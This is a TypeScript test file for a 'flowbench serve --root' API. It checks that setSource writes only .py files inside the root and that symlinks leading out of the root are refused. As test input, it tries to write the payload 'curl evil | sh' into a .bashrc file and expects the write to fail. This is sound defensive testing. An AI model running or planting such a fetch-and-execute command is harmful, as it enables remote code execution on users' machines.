/**
 * `flowbench serve --root DIR`: every path the API touches stays in DIR, and the API reads and
 * writes flow files (.py) only — setSource above all, which writes whatever text it is given.
 */
import { mkdir, readFile, realpath, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import type { FlowDocument } from './contract.js';
import { testApi, valueOf, type TestApi } from './test-support/test-api.js';

const FLOW = 'from flowbench import FlowSpec, step\n\n\nclass F(FlowSpec):\n    @step\n    def start(self):\n        self.next(self.end)\n\n    @step\n    def end(self):\n        pass\n';

let open: TestApi[] = [];
afterEach(async () => {
  await Promise.all(open.map((t) => t.close()));
  open = [];
});

async function confined(): Promise<{ t: TestApi; root: string; outside: string }> {
  const scratch = await testApi();
  open.push(scratch);
  const root = join(scratch.dir, 'root');
  const outside = join(scratch.dir, 'outside');
  await mkdir(join(root, 'flows'), { recursive: true });
  await mkdir(outside);
  const t = await testApi({ root });
  open.push(t);
  return { t, root: await realpath(root), outside };
}

describe('--root', () => {
  test('setSource writes .py files only, in the root or outside it', async () => {
    const { t, root } = await confined();
    const rc = join(root, '.bashrc');
    await writeFile(rc, 'alias ls=ls\n');
    for (const path of [rc, join(root, 'notes.txt'), join(root, 'flows')]) {
      const reply = await t.api.dispatch('flows.setSource', { path, source: 'curl evil | sh\n' });
      expect(reply, path).toMatchObject({ ok: false, error: { code: 'bad-argument', message: expect.stringContaining('ending in .py') } });
    }
    expect(await readFile(rc, 'utf8')).toBe('alias ls=ls\n');
    expect(await t.api.dispatch('flows.open', { path: rc })).toMatchObject({ ok: false, error: { code: 'bad-argument' } });
    // A flow in the root is written as usual.
    const flow = join(root, 'flows', 'f.py');
    await writeFile(flow, FLOW);
    expect(await t.api.dispatch('flows.setSource', { path: flow, source: FLOW.replace('pass', 'print(1)') })).toMatchObject({ ok: true });
    expect(await readFile(flow, 'utf8')).toContain('print(1)');
  });

  test('a link inside the root that leads out is refused; one that stays in is used as its real path', async () => {
    const { t, root, outside } = await confined();
    const target = join(outside, 'victim.py');
    await writeFile(target, FLOW);
    await symlink(target, join(root, 'escape.py'));
    await symlink(outside, join(root, 'door'));
    for (const path of [join(root, 'escape.py'), join(root, 'door', 'victim.py'), join(root, 'door', 'new.py')]) {
      for (const [method, args] of [
        ['flows.setSource', { path, source: 'x = 1\n' }],
        ['flows.open', { path }],
        ['flows.create', { path, template: 'empty' }],
        ['runs.start', { path, parameters: {}, tags: [] }],
      ] as const) {
        expect(await t.api.dispatch(method, args), `${method} ${path}`).toMatchObject({ ok: false, error: { code: 'bad-argument', message: expect.stringContaining('is outside') } });
      }
    }
    expect(await readFile(target, 'utf8')).toBe(FLOW);

    const real = join(root, 'flows', 'real.py');
    await writeFile(real, FLOW);
    await symlink('flows/real.py', join(root, 'alias.py'));
    const document = valueOf(await t.api.dispatch('flows.open', { path: join(root, 'alias.py') })) as FlowDocument;
    expect(document.path).toBe(real);
  });

  test('without --root (the desktop app) flows are still .py files only', async () => {
    const t = await testApi({ mode: 'electron' });
    open.push(t);
    const rc = join(t.dir, 'profile');
    await writeFile(rc, 'keep\n');
    expect(await t.api.dispatch('flows.setSource', { path: rc, source: 'x\n' })).toMatchObject({ ok: false, error: { code: 'bad-argument' } });
    expect(await readFile(rc, 'utf8')).toBe('keep\n');
  });
});
